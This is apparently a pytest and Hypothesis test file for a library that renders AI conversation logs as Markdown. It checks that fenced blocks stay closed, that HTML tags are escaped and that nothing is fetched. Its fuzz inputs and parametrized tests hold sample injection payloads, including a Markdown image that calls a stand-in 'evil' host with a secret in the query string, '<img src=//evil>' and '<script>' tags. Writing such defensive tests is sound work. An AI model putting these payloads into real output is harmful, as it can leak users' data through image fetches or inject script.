"""Conversations as Markdown: everything is in it, nothing ends its block, nothing is fetched."""

import re
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import pytest
from examples import MANY
from hypothesis import given
from hypothesis import strategies as st
from kept_conversations import BEGUN, SEED, Told, conversation_of

from elbowroom.context.branch import fenced, inline, markdown_of, quoted
from elbowroom.context.conversation import CompactionDetails, Conversation, KeptCompaction

OWN_LINES = re.compile(
    r"|#{1,2} .*|- .*|> .*|>|\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC|Thought:|Refused:|Called .+:"
    r"|(?:Image|Audio|File): .*|Compacted for the model; .*"
)
FENCE = re.compile(r"(`{3,})(?:(?:json|text)(?: [^`]*)?)?")
PIECES = ["`", "```", "\n```\n", "~~~\n", "\r````\r", "\r\n", "\n", "> ", "# x", "\n## 1. User\n", "![x](http://evil)"]
PIECES += ["</blockquote>", "<!--", "<script>", "<img src=//evil>", "[1]: http://evil\n", "![1]", "%%", "\ud800", "\0"]
PIECES += ["a_b", " ", "\t", "*", "    ", "-", "word", "\u2028", "$$", "<details>", "]]>", "\\", "<", "!", "]", "é"]
CONTENT = st.lists(st.sampled_from(PIECES), max_size=12).map("".join)


def shown(told: Told, **fields: Any) -> str:
    """Return a conversation with these messages as Markdown."""
    return text_of(conversation_of(told.messages, **fields))


def text_of(conversation: Conversation) -> str:
    """Return a conversation as Markdown."""
    return "".join(markdown_of(conversation))


def lines_outside(text: str) -> Iterator[str]:
    """Yield the lines outside fenced blocks, as CommonMark has them; fails where a block is left open."""
    fence = ""
    for line in re.split(r"\r\n|\r|\n", text):
        if fence:
            closes = re.fullmatch(r" {0,3}(`+)[ \t]*", line)
            fence = "" if closes and len(closes[1]) >= len(fence) else fence
        elif opens := FENCE.fullmatch(line):
            fence = opens[1]
        else:
            yield line
    assert not fence


def words_of(text: str) -> set[str]:
    """Return the words of a text."""
    return set(re.findall(r"\w+", text))


def test_what_a_person_did_about_a_compaction() -> None:
    """One that was taken back is told as such, and a summary that was changed stands there before and after."""
    details = CompactionDetails(2.25, 4, 6, 20, "They made a list.")
    edited = KeptCompaction(7000, 3000, "plan", BEGUN, details, edited="They made *two* lists.")
    text = shown(Told(), compactions=[edited, replace(edited, edited=None, undone=BEGUN + 60)])
    assert (
        """6 messages kept, 20 replaced
- 2025-10-09 08:53:20 UTC: 7,000 to 3,000 tokens (plan) in 2.2 s, 6 messages kept, 20 replaced; \
taken back 2025-10-09 08:54:20 UTC

Summary 1, in a person's words:

```text
They made *two* lists.
```

Summary 1, as it was:

```text
They made a list.
```

Summary 2:

```text
They made a list.
```
"""
        in text
    )


def test_a_conversation() -> None:
    """All of it can be read: whose, when, how large, what was said, called, returned and thought."""
    told = Told()
    told.sent("s1", SEED, "You help with notes.", role="system")
    told.sent("u1", SEED, "What is in *my* list?")
    told.looked_up("t1", "a1", "u1", '{"path":"list.md"}', "- milk\n- ```bread```")
    told.said("t1", "a1", "u1", "Milk.", reasoning="Short.", status="interrupted")
    details = CompactionDetails(2.25, 4, 6, 20, "They made ```a list```.")
    compaction = KeptCompaction(before=7000, after=3000, rung="plan", at=BEGUN)
    told_of = replace(compaction, details=details)
    assert (
        shown(told, title="What is in *my* list?", compactions=[compaction, told_of])
        == """\
# What is in \\*my\\* list?

- Conversation: conv_0123 (notes/7)
- Agent: writer
- Begun 2025-10-09 08:53:20 UTC, last used 2025-10-09 08:53:25 UTC
- Tokens: 1,320 in 2 model calls (900 read, 300 from a cache, 0 put in one, 120 written)
- Messages: 5

Compacted for the model; what is below is the original:

- 2025-10-09 08:53:20 UTC: 7,000 to 3,000 tokens (plan)
- 2025-10-09 08:53:20 UTC: 7,000 to 3,000 tokens (plan) in 2.2 s, 6 messages kept, 20 replaced

Summary 2:

````text
They made ```a list```.
````

## 1. System

2025-10-09 08:53:21 UTC

> You help with notes.

## 2. User

2025-10-09 08:53:22 UTC

> What is in *my* list?

## 3. writer

2025-10-09 08:53:23 UTC

Called vault_read:

```json
{"path":"list.md"}
```

## 4. Result of vault_read

2025-10-09 08:53:24 UTC

````text
- milk
- ```bread```
````

## 5. writer (interrupted)

2025-10-09 08:53:25 UTC

Thought:

```text
Short.
```

> Milk.

"""
    )


def test_other_branches_are_counted() -> None:
    """Only the latest branch is told; that there are others is said."""
    told = Told()
    told.sent("u1", SEED, "one?")
    told.said("t1", "a1", "u1", "one.")
    told.said("t2", "a2", "u1", "uno.")
    text = shown(told)
    assert "- Messages: 2 of 3; the others are in other branches" in text
    assert "> uno." in text
    assert "one." not in text


def test_images_and_files_are_named() -> None:
    """What is no text is named with its size; of its data nothing is there."""
    told = Told()
    data = "QUJD" * 100
    parts = [
        {"type": "text", "text": "Look:"},
        {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{data}"}},
        {"type": "image_url", "image_url": {"url": "https://example.org/cat.png"}},
        {"type": "input_audio", "input_audio": {"data": data, "format": "wav"}},
        {"type": "file", "file": {"filename": "plan.pdf", "file_data": f"data:application/pdf;base64,{data}"}},
        {"type": "novelty", "what": "unheard of"},
    ]
    told.sent("u1", SEED, parts)
    text = shown(told)
    assert "Image: image/png, 300 bytes\n" in text
    assert "Image: https://example.org/cat.png\n" in text
    assert "Audio: wav, 300 bytes\n" in text
    assert "File: plan.pdf, 300 bytes\n" in text
    assert '```json\n{"type": "novelty", "what": "unheard of"}\n```' in text
    assert data not in text


@pytest.mark.parametrize("place", ["sent", "said", "returned", "thought"])
def test_nothing_is_fetched(place: str) -> None:
    """An image elsewhere becomes a link, whoever wrote it and wherever it stands."""
    evil = "![x](https://evil/?q=secret) <img src='https://evil/a.png'>"
    told = Told()
    told.sent("u1", SEED, evil if place == "sent" else "one?")
    told.looked_up("t1", "a1", "u1", "{}", evil if place == "returned" else "note")
    told.said("t1", "a1", "u1", evil if place == "said" else "one.", reasoning=evil if place == "thought" else "")
    text = shown(told)
    assert "[image: x](https://evil/?q=secret) &lt;img src=" in text
    assert "![" not in text
    assert "<img" not in text


def test_an_address_for_an_image_of_another_message() -> None:
    """Addresses count for the whole text: what one message names, none before it shows."""
    told = Told()
    told.sent("u1", SEED, "![plan][1]")
    told.said("t1", "a1", "u1", "[1]: https://evil/a.png")
    assert "[1]\\: https://evil/a.png" in shown(told)


@pytest.mark.parametrize("tag", ["</blockquote>", "<!-- ", "<?php", "<script>", "<b>", "<details>", "<a href='"])
def test_tags_are_shown_as_text(tag: str) -> None:
    """What somebody said makes nothing of what stands behind it bold, hidden or a script."""
    assert "".join(quoted(f"a {tag} b")) == f"> a &lt;{tag[1:]} b\n\n"


def test_every_line_of_a_quotation_is_quoted() -> None:
    """Whatever ends a line in Markdown."""
    assert "".join(quoted("a < b\r\nb\rc\n\n    d\n")) == "> a < b\n> b\n> c\n>\n>     d\n>\n\n"


@pytest.mark.parametrize(
    ("said", "block"),
    [
        ("```python\na<b>\n```", "```python\na<b>\n```\n\n"),
        ("~~~~ sh -x\n~~~\n```\n~~~~~ ", "````sh -x\n~~~\n```\n````\n\n"),
        ("```\nnever closed", "```\nnever closed\n```\n\n"),
        ("```\n```", "```\n```\n\n"),
        ("```dataviewjs\nfetch()\n```", "```text dataviewjs\nfetch()\n```\n\n"),
        ("~~~ py `a`\nx\n~~~", "```py a\nx\n```\n\n"),
        ("``` no `` code", "> ``` no `` code\n\n"),
        ("- x\n  ```\n  y", "> - x\n>   ```\n>   y\n\n"),
    ],
)
def test_code_in_what_was_said(said: str, block: str) -> None:
    """It is shown to the letter, in a fence of ours, and nothing runs it."""
    assert "".join(quoted(said)) == block
    assert "".join(quoted(f"Look:\n{said}\n\nSo.")).startswith("> Look:\n")


@given(CONTENT)
def test_fences_are_longer_than_what_they_hold(text: str) -> None:
    """A block ends where it was closed, and holds the text to the letter."""
    block = fenced(text)
    opening, _, rest = block.partition("\n")
    fence = opening.removesuffix("text")
    assert fence not in text
    assert len(fence) >= 3
    assert rest.startswith(text)
    assert rest[len(text) :].strip("\n") == fence


@given(CONTENT)
def test_a_line_stays_one(text: str) -> None:
    """Names and titles have one line, whatever is in them, and no mark without a backslash."""
    line = inline(text)
    assert len(line.splitlines()) <= 1
    assert not re.search(r"(?<!\\)[`*\[\]<>#|!]", line.replace("\\\\", ""))


@MANY
@given(st.lists(CONTENT, min_size=6, max_size=6), CONTENT)
def test_nothing_ends_its_block(contents: list[str], name: str) -> None:
    """Of whatever texts, the headings are those of the messages, and every line is ours, quoted or in a block."""
    asked, thought, arguments, result, answer, again = contents
    told = Told()
    told.sent("u1", SEED, asked, name=name)
    told.looked_up("t1", "a1", "u1", arguments, result)
    told.said("t1", "a1", "u1", answer, reasoning=thought, refusal=again)
    told.sent("u2", "a1", [{"type": "text", "text": again}, {"type": "image_url", "image_url": {"url": name}}])
    text = shown(told, title=name)
    outside = list(lines_outside(text))
    assert all(map(OWN_LINES.fullmatch, outside))
    headings = [line for line in outside if line.startswith("#")]
    assert [heading.partition(".")[0] for heading in headings[1:]] == ["## 1", "## 2", "## 3", "## 4", "## 5"]
    assert not re.search(r"!\[x\]\(http|(?<!\\)<img", text)
    assert not re.search(r"(?<!\\)<(?:script|!--|/blockquote)", "\n".join(outside))


@given(st.lists(st.text(min_size=1, max_size=60), min_size=5, max_size=5))
def test_every_word_is_there(texts: list[str]) -> None:
    """No word of question, call, result, thought or answer is missing."""
    asked, arguments, result, thought, answer = texts
    told = Told()
    told.sent("u1", SEED, asked)
    told.looked_up("t1", "a1", "u1", arguments, result)
    told.said("t1", "a1", "u1", answer, reasoning=thought)
    there = words_of(shown(told))
    for text in texts:
        assert words_of(text) <= there
